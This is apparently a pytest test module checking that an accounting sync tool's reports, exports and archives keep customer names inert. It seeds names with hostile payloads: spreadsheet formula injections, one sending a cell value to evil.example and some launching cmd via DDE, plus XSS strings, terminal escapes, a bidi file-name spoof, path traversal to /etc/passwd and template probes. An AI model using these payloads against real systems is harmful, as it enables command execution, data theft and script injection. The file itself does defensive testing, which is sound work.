"""Names that strangers chose go through the whole stack, and come out inert in every form, exact where programs read.

QuickBooks over HTTP, sync, import files for the ERP, every form of a report, a pack: what a spreadsheet would run, what
steers a terminal, what turns text around, markup, and names of files that lead elsewhere.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pypdf
import pytest

from tests.cli.office import Office, office

RUNS = "=+-@\uff1d\uff0b\uff0d\uff20\u2212"
NAMES = {
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide formula": "\uff1d1+1",
    "wide plus": "\uff0b1",
    "space formula": "\u00a0=1+1",
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "drawing": "<svg/onload=alert(1)>",
    "closing": "</title></style></textarea><script>alert(2)</script>",
    "entity": "&lt;b&gt; &#60;script&#62; &amp;",
    "escape": "red \x1b[31m\x1b]0;owned\x07 text",
    "c1": "csi \x9b31m osc \x9d0;owned\x9c",
    "null": "bell \x07 back \x08\x08\x08 delete \x7f",
    "bidi": "invoice \u202efdp.exe\u202c \u2066isolated\u2069",
    "hidden": "zero\u200bwidth \ufeffmark so\xadft",
    "separators": "line\u2028paragraph\u2029end",
    "quotes": 'a "quoted, name"; with \'both\' \\ and ""',
    "path": "../../../etc/passwd",
    "windows": "CON",
    "device": "..\\..\\NUL.txt",
    "template": "{{7*7}} ${7*7} #{7*7} %s %n {0}",
    "typst": '#read("/etc/passwd") *bold* $x$ @ref `raw`',
    "astral": "tag \U000e0041 emoji \U0001f469\u200d\U0001f680",
    "odd": "unassigned \uffff private \ue000",
}
# What a record keeps of text with controls and separators: they are space, from the first reading on.
FOLDED = {
    "space formula": "=1+1", "escape": "red [31m ]0;owned text", "c1": "csi 31m osc 0;owned", "null": "bell back delete",
    "separators": "line paragraph end",
}  # fmt: skip
HIDDEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
LONG = "long " + "x" * 95
TAGS = frozenset(
    {"html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "dl", "div", "dt", "dd", "p", "ul", "li"}
    | {"section", "table", "thead", "tbody", "tr", "th", "td", "footer", "figure", "figcaption", "span", "svg", "g"}
    | {"rect", "line", "text", "path", "circle", "desc", "polyline", "details", "summary", "tspan"}
)


def steering(text: str, *, but: str = "") -> list[str]:
    """What a terminal or a reader would not see, or be steered by, beyond line ends and what is excused."""
    return [hex(ord(c)) for c in text if unicodedata.category(c) in HIDDEN and c not in "\n" + but]


class Page(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@dataclass
class Met:
    """names: of the customers as QuickBooks holds them · refused: those that it does not take"""

    it: Office
    names: dict[str, str]
    out: Path
    synced: list[Any]


@pytest.fixture(scope="module")
def met(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Met]:
    folder = tmp_path_factory.mktemp("inner") / "books"
    folder.mkdir()
    with office(folder, seed="empty", sample=1) as it:
        names: dict[str, str] = {}
        for n, (kind, name) in enumerate({**NAMES, "long": LONG}.items()):
            given = {"DisplayName": name.replace(":", ""), "CompanyName": name[:50]}  # QuickBooks takes no colon there
            made = it.site.books.apply("Customer", "create", given)
            names[kind] = str(made["DisplayName"])
            sale = {"ItemRef": {"value": "1"}, "TaxCodeRef": {"value": "NON"}}
            line = {"Amount": Decimal(100 + n), "DetailType": "SalesItemLineDetail", "SalesItemLineDetail": sale}
            body = {"CustomerRef": {"value": made["Id"]}, "Line": [line | {"Description": name}], "PrivateNote": name}
            body |= {"DocNumber": name[:21], "TxnDate": "2026-11-15", "CustomerMemo": {"value": name}}
            it.site.books.apply("Invoice", "create", body)
        synced = [json.loads(it.run("sync", "--apply", "--json").stdout)["runs"][0] for _ in range(2)]
        out = folder.parent / "out"
        out.mkdir()
        yield Met(it, names, out, synced)


def test_names_are_read_as_they_are(met: Met) -> None:
    ran = met.it.run("report", "open-items", "quickbooks", "--as-of", "2026-11-30", "--json")
    assert ran.returncode == 0, ran.stderr
    assert steering(ran.stdout) == []
    told = json.dumps(json.loads(ran.stdout), ensure_ascii=False)
    lost = {kind for kind, name in met.names.items() if json.dumps(name, ensure_ascii=False)[1:-1] not in told}
    assert lost == set(FOLDED)
    assert [words for words in FOLDED.values() if words not in told] == []


REPORTS = (
    ("aging", "quickbooks", "--detail"), ("statement", "quickbooks", "--from", "2026-11-01"),
    ("interface-log", "--pair", "main", "--from", "2026-11-01"),
)  # fmt: skip


@pytest.mark.parametrize("report", REPORTS, ids=lambda r: f"{r[0]}-{r[-1]}")
def test_every_form_of_a_report_is_inert(met: Met, report: tuple[str, ...]) -> None:
    forms = ("csv", "html") if report[0] == "statement" else ("text", "json", "csv", "xlsx", "html")
    for form in forms:
        file = met.out / f"{report[0]}.{form}"
        ran = met.it.run("report", *report, "--as-of", "2026-11-30", "--format", form, "-o", file)
        assert ran.returncode == 0, ran.stderr
        assert steering(ran.stdout + ran.stderr) == []
        made = [p for p in file.rglob("*") if p.is_file()] if file.is_dir() else [file]
        assert made
        assert report[0] != "statement" or len(made) >= len(met.names), "one for each customer"
        for one in made:
            assert re.fullmatch(r"[A-Za-z0-9_.-]+", one.name), one.name
            assert one.resolve().is_relative_to(met.out.resolve())
            CHECKS["json" if one.suffix == ".json" else form](one)
    screen = met.it.run("report", *report, "--as-of", "2026-11-30")
    assert steering(screen.stdout + screen.stderr) == []


def of_text(file: Path) -> None:
    assert steering(file.read_text("utf-8")) == []


def of_csv(file: Path) -> None:
    text = file.read_bytes().decode("utf-8-sig")
    assert steering(text, but="\r\t") == []
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert cells
    assert [c for c in cells if c.strip()[:1] in tuple(RUNS) and not re.fullmatch(r"-?[0-9.]+", c)] == []


def of_xlsx(file: Path) -> None:
    book = openpyxl.load_workbook(file)
    evaluated = openpyxl.load_workbook(file, data_only=True)
    for sheet in book:
        assert not re.search(r"[\[\]:*?/\\]", sheet.title)
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.hyperlink is None or (cell.hyperlink.target is None and cell.hyperlink.location)
                if cell.data_type == "f":  # ours: sums over cells, and links between sheets
                    assert re.fullmatch(r"=[A-Z0-9$:(),+\-*.!'# _a-z\u2013&]+", str(cell.value)), cell.value
                    assert not re.search(r"HYPERLINK|cmd|DDE|WEBSERVICE|http", str(cell.value), re.IGNORECASE)
                    assert not isinstance(evaluated[sheet.title][cell.coordinate].value, str)
                elif isinstance(cell.value, str):
                    assert steering(cell.value, but="\u200d") == []
    with zipfile.ZipFile(file) as archive:
        assert not [n for n in archive.namelist() if "external" in n.lower() or n.startswith(("/", ".."))]
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                assert b'TargetMode="External"' not in archive.read(name)


def of_html(file: Path) -> None:
    text = file.read_text("utf-8")
    page = Page(text)
    assert set(page.tags) <= TAGS, set(page.tags) - TAGS
    assert not [
        a for a, _ in page.attributes if a.startswith("on") or a in ("src", "href", "style", "srcdoc", "action")
    ]
    assert steering(text, but="\u200d") == []
    assert "default-src 'none'" in text


CHECKS = {"text": of_text, "json": of_text, "csv": of_csv, "xlsx": of_xlsx, "html": of_html}


def test_a_pdf_has_nothing_that_acts(met: Met) -> None:
    file = met.out / "aging.pdf"
    ran = met.it.run(
        "report", "aging", "quickbooks", "--detail", "--as-of", "2026-11-30", "--format", "pdf", "-o", file
    )
    assert ran.returncode == 0, ran.stderr
    read = pypdf.PdfReader(file)
    kinds = {key for n in range(1, len(read.xref[0]) + 1) for key in _keys(read, n)}
    assert not kinds & {"/JS", "/JavaScript", "/Launch", "/OpenAction", "/AA", "/URI", "/EmbeddedFile", "/SubmitForm"}
    told = "".join(page.extract_text() for page in read.pages).replace("\n", "").replace(" ", "")
    assert "<script>alert(1)</script>" in told
    assert '#read("/etc/passwd")' in told
    assert "root:" not in told


def _keys(read: pypdf.PdfReader, number: int) -> Iterator[str]:
    found = read.get_object(number)
    if isinstance(found, dict):
        yield from found
        yield str(found.get("/S", ""))


def test_an_import_file_holds_a_name_exactly_or_not_at_all(met: Met) -> None:
    outbox = met.it.folder / "erp" / "outbox"
    files = [p for p in outbox.rglob("*") if p.is_file()]
    assert files
    assert all(
        re.fullmatch(
            r"[0-9TZ]+-[0-9]+-[a-z_-]+\.(import\.csv|manifest\.json)|[0-9]+\.manifest\.json|\.?[a-z.-]+", p.name
        )
        for p in files
    ), files
    cells: set[str] = set()
    for file in outbox.rglob("*.import.csv"):
        text = file.read_bytes().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if ";" in text.splitlines()[0] else ","))
        cells |= {cell for row in rows for cell in row}
        assert not [c for row in rows for c in row if c.strip()[:1] in tuple("=@\uff1d\uff0b\uff20")]
        assert not [c for row in rows for c in row if c.startswith("'")], "a form for people, where a program reads"
        assert not [c for row in rows for c in row for x in c if unicodedata.category(x) == "Cc"]
    carried = {kind for kind, name in met.names.items() if name in cells}
    assert carried >= {"script", "image", "drawing", "entity", "path", "windows", "device", "template", "typst"}
    assert cells >= set(FOLDED.values()) - {"=1+1"}
    assert set(met.names) - carried - set(FOLDED) == {
        "formula",
        "plus",
        "minus",
        "at",
        "wide formula",
        "wide plus",
        "bidi",
    }
    # What is not carried is said, with the field and why: a person decides.
    listed = json.loads(met.it.run("discrepancies", "list", "--json").stdout)["discrepancies"]
    refused = [d["cause"] for d in listed if d["cause"].startswith("rejected: name (column name)")]
    assert sum("begins like a spreadsheet formula" in cause for cause in refused) == 7
    assert sum("reverses text (U+202E)" in cause for cause in refused) == 1
    assert len(refused) == 8


def test_nothing_is_written_where_a_name_leads(met: Met) -> None:
    root = met.it.folder.parent
    assert {p.name for p in root.iterdir()} == {"books", "out"}
    written = {p.relative_to(root) for p in root.rglob("*") if p.is_file()}
    assert not [p for p in written for part in p.parts if part.upper().partition(".")[0] in ("CON", "NUL", "PASSWD")]
    assert not [p for p in written if steering(str(p)) or ":" in str(p)]


def test_differences_and_plans_on_the_screen_and_in_files(met: Met) -> None:
    for words in (("plan", "show"), ("discrepancies", "list"), ("sync",), ("pull",), ("check",)):
        for how in ((), ("--json",) if words != ("sync",) else ("--debug",)):
            ran = met.it.run(*words, *how)
            assert steering(ran.stdout + ran.stderr) == [], words
    listed = json.loads(met.it.run("discrepancies", "list", "--json").stdout)["discrepancies"]
    assert listed
    assert met.it.run("discrepancies", "export", "main", "-o", met.out / "d.csv").returncode == 0
    of_csv(met.out / "d.csv")
    assert met.it.run("discrepancies", "export", "main", "--format", "xlsx", "-o", met.out / "d.xlsx").returncode == 0
    of_xlsx(met.out / "d.xlsx")


def test_a_pack_holds_the_names_exactly_and_under_safe_names(met: Met) -> None:
    run = met.synced[0]["run"]
    assert met.it.run("evidence", "pack", run[:13], "-o", met.out / "run.zip").returncode == 0
    with zipfile.ZipFile(met.out / "run.zip") as archive:
        assert all(re.fullmatch(r"[A-Za-z0-9_.-]+(/[A-Za-z0-9_.:-]+)*", n) for n in archive.namelist()), (
            archive.namelist()
        )
        whole = b"".join(archive.read(n) for n in archive.namelist()).decode("utf-8", "replace")
    assert met.it.run("evidence", "verify", met.out / "run.zip", "--json").returncode in (0, 4)
    assert json.dumps(met.names["script"])[1:-1] in whole


@pytest.mark.parametrize("name", ["customers_9.csv", "fbl5n_9.csv"])
def test_a_file_for_people_is_no_export_of_a_ledger(met: Met, name: str) -> None:
    """What was made neutral for a spreadsheet is another text: read back as a name, it would be a change."""
    dropped = met.it.folder / "erp" / "export" / name
    differences, aging = met.out / "d.csv", met.out / "aging-again.csv"
    assert met.it.run("discrepancies", "export", "main", "-o", differences).returncode == 0
    asked = ("report", "aging", "quickbooks", "--as-of", "2026-11-30", "--format", "csv")
    ran = met.it.run(*asked, "--table", "customers", "-o", aging)
    assert ran.returncode == 0, ran.stderr
    assert met.it.run("pull", "erp").returncode == 0
    try:
        for made in (differences, aging):
            dropped.write_bytes(made.read_bytes())
            ran = met.it.run("pull", "erp")
            assert ran.returncode == 2, (made, ran.stdout, ran.stderr)
            assert name in ran.stderr
    finally:
        dropped.unlink()
    assert met.it.run("pull", "erp").returncode == 0
